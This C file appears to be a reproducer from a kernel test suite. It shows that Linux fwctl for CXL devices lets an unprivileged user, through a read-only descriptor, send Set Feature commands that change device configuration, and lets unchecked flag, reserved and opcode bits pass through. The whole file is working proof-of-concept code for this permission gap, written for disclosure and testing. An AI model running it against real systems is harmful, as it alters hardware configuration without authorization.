/* SPDX-License-Identifier: Apache-2.0 */
/*
 * K10: fwctl of a CXL device asks for no capability below scope 3 and never for the open mode. As
 * an ordinary user, through a descriptor open for reading: a Set Feature whose declared effect is a
 * change of the configuration after a reset is carried out in scope 2; and the kernel is tainted by
 * whoever claims that scope, also where the driver then refuses. What fwctl does not look at goes
 * through with it: flags and reserved bytes before the payload, bits of the opcode above 16.
 * Seen on Linux 7.3.4 (fwctl: since 6.15).
 *
 *   k10-fwctl-feature NODE    /dev/fwctl/fwctl0 of tests/vm/fwctl
 *
 * Exit status: 0 reproduced, 1 not on this kernel, 2 it could not be tried.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/ioctl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define NOBODY	  65534
#define FWCTL_RPC _IO(0x9a, 1) /* include/uapi/fwctl/fwctl.h */

struct rpc {
	uint32_t size, scope, in_len, out_len;
	uint64_t in, out;
};

/* include/uapi/fwctl/cxl.h; Set Feature: CXL 3.1 §8.2.9.6.3 */
struct set_feature {
	uint32_t opcode, flags, size, reserved;
	uint8_t uuid[16];
	uint32_t how;
	uint16_t offset;
	uint8_t version, more[9], value[4];
} __attribute__((packed));

/* 0, or the errno. */
static int set(int fd, uint32_t scope, uint32_t opcode, uint8_t feature)
{
	struct set_feature in = {
		.opcode = opcode,
		.flags = opcode >> 16,
		.size = sizeof(in) - 16,
		.reserved = opcode >> 16,
		.uuid = {0x51, 0xc1, 0xce, 0, 0, 0, 0x40, 0, 0x80, [15] = feature},
		.version = 1,
		.value = {1, 2, 3, 4},
	};
	uint8_t out[64];
	struct rpc r = {sizeof(r), scope, sizeof(in), sizeof(out), (uintptr_t)&in, (uintptr_t)out};

	return ioctl(fd, FWCTL_RPC, &r) < 0 ? errno : 0;
}

int main(int argc, char **argv)
{
	int fd = argc > 1 ? open(argv[1], O_RDONLY | O_CLOEXEC) : -1, later, at_once, odd;

	if (fd < 0 ||
	    (geteuid() == 0 && (setgroups(0, NULL) < 0 || setresgid(NOBODY, NOBODY, NOBODY) < 0 ||
				setresuid(NOBODY, NOBODY, NOBODY) < 0))) {
		perror("k10");
		return 2;
	}
	at_once = set(fd, 2, 0x0502, 0x02);
	later = set(fd, 2, 0x0502, 0x01);
	odd = set(fd, 2, 0x70502, 0x01);
	(void)printf("Set Feature, a change at once, scope 2: %s\n", strerror(at_once));
	(void)printf("Set Feature, a change after a reset, scope 2: %s\n", strerror(later));
	(void)printf("the same as opcode 70502h, with flags and reserved bytes: %s\n",
		     strerror(odd));
	if (!at_once) {
		(void)fprintf(stderr, "k10: the device is not that of tests/vm/fwctl\n");
		return 2;
	}
	return later || odd ? 1 : 0;
}
